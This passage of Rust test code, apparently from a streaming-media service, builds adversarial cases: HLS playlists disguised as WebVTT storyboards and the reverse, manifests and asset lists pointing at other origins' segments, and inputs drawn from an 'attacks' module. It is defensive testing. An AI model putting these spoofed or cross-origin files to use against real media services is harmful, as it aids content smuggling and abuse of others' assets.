            "a playlist called a storyboard",
            "storyboard.vtt",
            HLS,
            list.clone(),
        ),
        one(
            "a storyboard called a playlist",
            "p.m3u8",
            "text/vtt",
            board(&pictures),
        ),
        one("a playlist without a name", "playlist", HLS, list.clone()),
        one("a playlist as a segment", "x.ts", HLS, list.clone()),
        one("a playlist in capitals", "P.M3U8", HLS, list.clone()),
        one("a playlist as an old one", "p.m3u", "audio/x-mpegurl", list),
        one(
            "a manifest of others' segments",
            "manifest.mpd",
            "application/dash+xml",
            format!("<MPD><BaseURL>{others}/</BaseURL></MPD>"),
        ),
        one(
            "a list of others' assets",
            "a.json",
            "application/json",
            json!({ "ASSETS": [{ "URI": format!("{others}/master.m3u8") }] }).to_string(),
        ),
    ];
    for (name, bytes) in attacks::storyboards(site) {
        cases.push(one(
            &format!("a storyboard of {name:?}"),
            "storyboard.vtt",
            "text/vtt",
            String::from_utf8_lossy(&bytes).into_owned(),
        ));
    }
    for (name, bytes) in attacks::asset_lists(site) {
        let list = media(
            "#EXT-X-DATERANGE:ID=\"i\",CLASS=\"com.apple.hls.interstitial\",\
             START-DATE=\"2026-01-01T00:00:00Z\",X-ASSET-LIST=\"a.json\"",
        );
        cases.push(
            Case::new(&format!("assets {name}"), &multivariant(""), &list).with(
                "a.json",
                "application/json",
                bytes,
            ),
        );
    }
    cases
}
